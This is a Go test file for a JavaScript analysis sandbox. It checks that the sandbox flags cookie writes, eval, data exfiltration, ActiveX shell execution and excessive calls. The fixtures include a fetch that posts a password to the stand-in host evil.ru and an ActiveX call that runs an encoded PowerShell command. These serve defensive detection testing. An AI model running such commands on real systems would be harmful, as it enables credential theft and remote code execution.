// internal/browser/jsbind/sandbox_test.go
package jsbind

import (
	"strings"
	"testing"

	"github.com/dop251/goja"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/xkilldash9x/jsbox/api/schemas"
	"github.com/xkilldash9x/jsbox/internal/analysis/core"
	"github.com/xkilldash9x/jsbox/internal/analysis/dynamic"
	"github.com/xkilldash9x/jsbox/internal/browser/parser"
	"github.com/xkilldash9x/jsbox/internal/config"
)

// -- Test Setup Utilities --

type TestEnvironment struct {
	S    *Sandbox
	AC   *core.AnalyzerContext
	Logs *observer.ObservedLogs
	T    *testing.T
}

// SetupTest builds a sandbox over a fresh runtime with default settings.
// Scripts discovered at runtime run in the same runtime.
func SetupTest(t *testing.T, page string) *TestEnvironment {
	t.Helper()
	obs, logs := observer.New(zapcore.DebugLevel)
	logger := zap.New(obs)

	cfg := config.NewDefaultConfig()
	ac := newAnalyzerContext(logger, cfg)
	s, err := New(goja.New(), ac, cfg.Sandbox(), logger)
	require.NoError(t, err)
	if page != "" {
		require.NoError(t, s.DOM().Load(page))
	}
	s.SetScriptHandler(func(code, origin string) error {
		_, err := s.VM().RunString(code)
		return err
	})
	return &TestEnvironment{S: s, AC: ac, Logs: logs, T: t}
}

func newAnalyzerContext(logger *zap.Logger, cfg *config.Config) *core.AnalyzerContext {
	sb := cfg.Sandbox()
	return core.NewAnalyzerContext("test-task", logger, cfg.Browser(), core.Options{
		CallLimit:         sb.CallLimit,
		ReentrancyCeiling: sb.ReentrancyCeiling,
		Tags:              parser.NewTagExtractor(),
	})
}

func (te *TestEnvironment) RunJS(script string) (goja.Value, error) {
	return te.S.VM().RunString(script)
}

// MustRunJS runs a script and fails the test on error.
func (te *TestEnvironment) MustRunJS(script string) goja.Value {
	te.T.Helper()
	val, err := te.RunJS(script)
	require.NoError(te.T, err)
	return val
}

// Drain runs every deferred job.
func (te *TestEnvironment) Drain() DrainStats {
	te.T.Helper()
	stats, err := te.S.Jobs().Drain(300, nil)
	require.NoError(te.T, err)
	return stats
}

func (te *TestEnvironment) Events(name string) []dynamic.Event {
	return te.AC.Dynamic.EventsNamed(name)
}

// MustEvent returns the single event recorded under name.
func (te *TestEnvironment) MustEvent(name string) dynamic.Event {
	te.T.Helper()
	events := te.Events(name)
	require.Len(te.T, events, 1, "events named %s", name)
	return events[0]
}

func (te *TestEnvironment) Findings(code string) []schemas.Detection {
	var out []schemas.Detection
	for _, d := range te.AC.Findings() {
		if d.Code == code {
			out = append(out, d)
		}
	}
	return out
}

func metaBool(t *testing.T, ev dynamic.Event, key string) bool {
	t.Helper()
	v, ok := ev.Metadata.Get(key)
	require.True(t, ok, "metadata %q missing", key)
	return v.AsBool()
}

// -- Test Cases --

func TestNew(t *testing.T) {
	t.Run("should reject a nil runtime", func(t *testing.T) {
		cfg := config.NewDefaultConfig()
		_, err := New(nil, newAnalyzerContext(zap.NewNop(), cfg), cfg.Sandbox(), nil)
		assert.Error(t, err)
	})

	t.Run("should install every module", func(t *testing.T) {
		te := SetupTest(t, "")
		for _, global := range []string{
			"document", "window", "navigator", "localStorage", "sessionStorage", "indexedDB",
			"fetch", "XMLHttpRequest", "WebSocket", "Worker", "Blob", "crypto",
			"ActiveXObject", "WScript", "WebAssembly", "jQuery", "$", "URL", "console",
		} {
			v := te.S.VM().Get(global)
			assert.NotNil(t, v, global)
		}
		assert.Nil(t, te.S.VM().Get("require"), "require must not leak to scripts")
	})
}

func TestScenarioCookieWrite(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`document.cookie = "sessionid=abc123"`)

	ev := te.MustEvent("document.cookie.write")
	assert.Equal(t, dynamic.EventCookieAccess, ev.Type)
	assert.Equal(t, 5, ev.Severity)
	assert.False(t, metaBool(t, ev, "http_only"))
	assert.False(t, metaBool(t, ev, "secure"))
	assert.Equal(t, "sessionid=abc123", te.MustRunJS(`document.cookie`).String())
}

func TestScenarioEval(t *testing.T) {
	te := SetupTest(t, "")
	res := te.MustRunJS(`eval("1+1")`)
	assert.Equal(t, int64(2), res.ToInteger())

	ev := te.MustEvent("eval")
	assert.Equal(t, 10, ev.Severity)
	require.Len(t, te.Findings("eval_call_detected"), 1)
	assert.Equal(t, "JSScanner.EVAL_CALL_DETECTED", te.Findings("eval_call_detected")[0].Name)
}

func TestScenarioFetchEscalation(t *testing.T) {
	te := SetupTest(t, "")
	te.AC.Dynamic.SetFunctionCallCount(1000)
	te.MustRunJS(`fetch("http://evil.ru/x", {method: "POST", body: "password=hunter2"})`)

	ev := te.MustEvent("fetch")
	assert.Equal(t, 10, ev.Severity)
	assert.Equal(t, dynamic.EventDataExfiltration, ev.Type)
	assert.Equal(t, dynamic.StatusFlagged, ev.Status)
	assert.True(t, metaBool(t, ev, "sensitive"))
	assert.True(t, metaBool(t, ev, "excessive_function_calls"))
	assert.True(t, metaBool(t, ev, "suspicious_domain"))

	assert.Contains(t, te.AC.URLs.URLs(), "http://evil.ru/x")
	require.Len(t, te.Findings("sensitive_data_exfiltration"), 1)
}

func TestScenarioActiveXRun(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`new ActiveXObject("WScript.Shell").Run("powershell -EncodedCommand SQBFAFgA")`)

	ev := te.MustEvent("ActiveXObject.Run")
	assert.Equal(t, dynamic.EventActiveXExecution, ev.Type)
	assert.GreaterOrEqual(t, ev.Severity, 7)
	score, ok := ev.Metadata.Get("risk_score")
	require.True(t, ok)
	assert.GreaterOrEqual(t, score.AsNumber(), 5.0)

	found := te.Findings("malicious_activex_execution")
	require.Len(t, found, 1)
	assert.Equal(t, "JSScanner.MALICIOUS_ACTIVEX_EXECUTION", found[0].Name)
	assert.Contains(t, found[0].Features, "risk_score")
}

func TestCallLimit(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`for (var i = 0; i < 1100; i++) { btoa("x" + i); }`)

	assert.Len(t, te.Events("btoa"), 1000)
	limitEvents := 0
	for _, ev := range te.AC.Dynamic.Events() {
		if ev.Type == dynamic.EventDoSLimit {
			limitEvents++
		}
	}
	assert.Equal(t, 1, limitEvents)
	assert.Len(t, te.Findings("dos_limit_exceeded"), 1)
	assert.Equal(t, 1, te.Logs.FilterMessageSnippet("limit exceeded").Len())
}

func TestReentrancyCeiling(t *testing.T) {
	te := SetupTest(t, "<html><body><div id='x'></div></body></html>")
	res := te.MustRunJS(`
		var el = document.getElementById('x');
		var depth = 0, caught = "";
		el.addEventListener('ping', function () {
			depth++;
			try { el.dispatchEvent({type: 'ping'}); } catch (e) { caught = e.name; }
		});
		el.dispatchEvent({type: 'ping'});
		caught + ":" + depth;
	`)
	assert.Equal(t, "RangeError:100", res.String())
	assert.Equal(t, 0, te.AC.Exec.Reentry(core.FamilyEvent), "guard must unwind on throw")
}

func TestUncaughtErrorsKeepRuntimeUsable(t *testing.T) {
	te := SetupTest(t, "")
	_, err := te.RunJS(`throw new Error("boom")`)
	require.Error(t, err)
	assert.True(t, strings.Contains(err.Error(), "boom"))
	assert.Equal(t, int64(3), te.MustRunJS(`1+2`).ToInteger())
}
